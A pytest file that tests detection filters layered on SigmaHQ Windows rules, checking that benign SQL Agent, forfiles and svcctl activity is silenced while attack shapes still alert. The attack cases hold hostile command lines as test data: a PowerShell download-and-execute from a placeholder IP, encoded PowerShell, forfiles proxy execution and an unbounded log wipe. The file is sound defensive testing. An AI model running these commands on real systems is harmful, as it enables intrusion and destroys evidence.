"""Province meta-filters (rules/windows/filters/) on SigmaHQ's Windows rules: each takes out one documented
benign shape and nothing else. Every case goes through the real normaliser (forwarded NXLog JSON) and the
real loader, with SigmaHQ's rule file as shipped; the benign case alerts without the filter (so the filter
is what silences it) and the attack case of the same rule still alerts with it."""

from __future__ import annotations

from pathlib import Path

import pytest

from detectors.normalise import parse_line
from detectors.sigma import Engine, load_rules
from tests.unit.test_normalise_windows import SECURITY, SYSMON, nxlog

REPO = Path(__file__).resolve().parents[2]
FILTERS = REPO / "rules" / "windows" / "filters"
SIGMAHQ = REPO.parent / "shared" / "sigma" / "rules-windows"
PIPE_RULE = SIGMAHQ / "pipe_created" / "pipe_created_susp_malicious_namedpipes.yml"
PS_PARENT_RULE = SIGMAHQ / "process_creation" / "proc_creation_win_powershell_susp_parent_process.yml"
SYSTEM_RULE = SIGMAHQ / "process_creation" / "proc_creation_win_susp_system_user_anomaly.yml"
PIPE_ID = "fe3ac066-98bb-432a-b1e7-a5229cb39d4a"
PS_PARENT_ID = "754ed792-634f-40ae-b3bc-e0448d33f695"
SYSTEM_ID = "2617e7ed-adb7-40ba-b0f3-8f9945fe6c09"

pytestmark = pytest.mark.skipif(not SIGMAHQ.is_dir(), reason="../shared/sigma/rules-windows missing")

SQLAGENT = r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\SQLAGENT.EXE"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
FORFILES = r"C:\Windows\System32\forfiles.exe"


def _engine(with_filters: bool) -> Engine:
    paths = [PIPE_RULE, PS_PARENT_RULE, SYSTEM_RULE] + ([FILTERS] if with_filters else [])
    res = load_rules(paths)
    assert not res.errors and not res.warnings, [str(e) for e in res.errors + res.warnings]
    assert len(res.filters) == (3 if with_filters else 0)
    return Engine(res.rules)


@pytest.fixture(scope="module")
def filtered() -> Engine:
    return _engine(True)


@pytest.fixture(scope="module")
def unfiltered() -> Engine:
    return _engine(False)


def _fires(engine: Engine, line: str) -> set[str]:
    return {str(r.meta.id) for r in engine.matching_rules(parse_line(line, timezone="UTC"))}


def pipe(eid: int, name: str, image: str = "System") -> str:
    return nxlog(
        *SYSMON,
        eid,
        {"EventType": "ConnectPipe" if eid == 18 else "CreatePipe", "PipeName": name, "Image": image, "ProcessId": "4"},
        host="APP01.agency.local",
    )


def sysmon_process(image: str, cmd: str, parent: str, user: str, integrity: str, parent_cmd: str = "") -> str:
    data = {
        "Image": image,
        "CommandLine": cmd,
        "ParentImage": parent,
        "User": user,
        "IntegrityLevel": integrity,
        "OriginalFileName": Path(image.replace("\\", "/")).name.upper(),
        "ParentCommandLine": parent_cmd or parent,
    }
    return nxlog(*SYSMON, 1, data, host="SQL01.agency.local")


def security_process(image: str, cmd: str, parent: str, label: str, user: str = "SQL01$") -> str:
    data = {
        "NewProcessName": image,
        "CommandLine": cmd,
        "ParentProcessName": parent,
        "MandatoryLabel": label,
        "SubjectUserName": user,
        "SubjectDomainName": "AGENCY",
        "SubjectUserSid": "S-1-5-18",
        "SubjectLogonId": "0x3e7",
        "TokenElevationType": "%%1936",
    }
    return nxlog(*SECURITY, 4688, data, host="SQL01.agency.local")


# --- svcctl: remote service management connects to the SCM's pipe -------------------------------------


def test_svcctl_connection_no_longer_critical(filtered: Engine, unfiltered: Engine) -> None:
    benign = pipe(18, r"\svcctl")  # services.msc / sc \\host query / Server Manager from another computer
    assert PIPE_ID in _fires(unfiltered, benign)
    assert PIPE_ID not in _fires(filtered, benign)


@pytest.mark.parametrize(
    "name", [r"\csexecsvc", r"\gruntsvc", r"\isapi_http", r"\583da945-62af-10e8-4902-a8f205c72b2e"]
)
def test_other_malicious_pipes_still_alert(filtered: Engine, name: str) -> None:
    assert PIPE_ID in _fires(filtered, pipe(17, name, r"C:\Users\Public\beacon.exe"))


# --- SQL Server Agent CmdExec step running a local .ps1 ------------------------------------------------

SQL_STEP = r'powershell.exe -NoProfile -NonInteractive -File "D:\Jobs\Export-Statistiques.ps1"'


@pytest.mark.parametrize(
    "line",
    [
        sysmon_process(POWERSHELL, SQL_STEP, SQLAGENT, r"AGENCY\svc-sql", "High"),
        sysmon_process(POWERSHELL, r"powershell -File D:\Jobs\Purge.ps1", SQLAGENT, r"AGENCY\svc-sql", "High"),
        security_process(POWERSHELL, SQL_STEP, SQLAGENT, "S-1-16-12288", "svc-sql"),
    ],
)
def test_sql_agent_script_step_no_longer_alerts(filtered: Engine, unfiltered: Engine, line: str) -> None:
    assert PS_PARENT_ID in _fires(unfiltered, line)
    assert PS_PARENT_ID not in _fires(filtered, line)


@pytest.mark.parametrize(
    "cmd",
    [
        "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "powershell -enc SQBFAFgA -File D:\\Jobs\\x.ps1",
        "powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"",
        "powershell.exe -File C:\\Users\\Public\\a.ps1",
        "powershell.exe -File C:\\Windows\\Temp\\a.ps1",
        "powershell.exe -File \\\\198.51.100.7\\share\\a.ps1",
        "powershell.exe -File D:\\Jobs\\x.ps1 -Url http://198.51.100.7/a",
    ],
)
def test_sql_agent_attack_powershell_still_alerts(filtered: Engine, cmd: str) -> None:
    assert PS_PARENT_ID in _fires(filtered, sysmon_process(POWERSHELL, cmd, SQLAGENT, r"AGENCY\svc-sql", "High"))


def test_powershell_under_sqlservr_untouched(filtered: Engine) -> None:
    sqlservr = SQLAGENT.replace("SQLAGENT.EXE", "sqlservr.exe")  # xp_cmdshell
    assert PS_PARENT_ID in _fires(filtered, sysmon_process(POWERSHELL, SQL_STEP, sqlservr, r"AGENCY\svc-sql", "High"))


# --- forfiles retention purge as SYSTEM ----------------------------------------------------------------

PURGE = r'forfiles /p "C:\inetpub\logs\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path"'


@pytest.mark.parametrize(
    "line",
    [
        sysmon_process(FORFILES, PURGE, r"C:\Windows\System32\cmd.exe", r"NT AUTHORITY\SYSTEM", "System"),
        sysmon_process(
            FORFILES,
            r'forfiles /p D:\Exports /m *.csv /c "cmd /c del /q @path" /d -14',
            r"C:\Windows\System32\cmd.exe",
            r"NT AUTHORITY\SYSTEM",
            "System",
        ),
        security_process(FORFILES, PURGE, r"C:\Windows\System32\cmd.exe", "S-1-16-16384"),
    ],
)
def test_forfiles_retention_purge_no_longer_alerts(filtered: Engine, unfiltered: Engine, line: str) -> None:
    assert SYSTEM_ID in _fires(unfiltered, line)
    assert SYSTEM_ID not in _fires(filtered, line)


@pytest.mark.parametrize(
    "cmd",
    [
        r"forfiles /p C:\Windows\System32 /m notepad.exe /c calc.exe",  # LOLBAS proxy execution
        r'forfiles /p C:\Windows\System32 /m notepad.exe /c "cmd /c powershell -enc SQBFAFgA" /d -1',
        r'forfiles /p C:\inetpub\logs\LogFiles /s /m *.log /c "cmd /c del @path"',  # no age limit: wipes all
        r'forfiles /p C:\Logs /d -30 /c "cmd /c del @path & C:\Users\Public\a.exe"',
    ],
)
def test_forfiles_attack_shapes_still_alert(filtered: Engine, cmd: str) -> None:
    line = sysmon_process(FORFILES, cmd, r"C:\Windows\System32\cmd.exe", r"NT AUTHORITY\SYSTEM", "System")
    assert SYSTEM_ID in _fires(filtered, line)


# --- the rule-test format: `requires:` (SigmaHQ targets outside the repository) -------------------------


def test_rule_tests_skip_when_required_rules_are_absent(tmp_path: Path) -> None:
    from detectors.sigma.testing import coverage_problems, run_tests

    (tmp_path / "f.yml").write_text((FILTERS / "svcctl_pipe_remote_management.yml").read_text())
    (tmp_path / "f.tests.yml").write_text(
        "requires: [absent/rule.yml]\ntests:\n- {name: x, rule: r, event: {a: 1}, match: true}\n"
    )
    [res] = run_tests([tmp_path])
    assert res.kind == "skipped" and res.passed and "absent" in res.message
    assert coverage_problems([tmp_path], [res]) == []
    # present: the required file is loaded and the cases run (a case that cannot pass fails)
    (tmp_path / "absent").mkdir()
    (tmp_path / "absent" / "rule.yml").write_text(PIPE_RULE.read_text())
    [res] = run_tests([tmp_path])
    assert res.kind == "event" and not res.passed
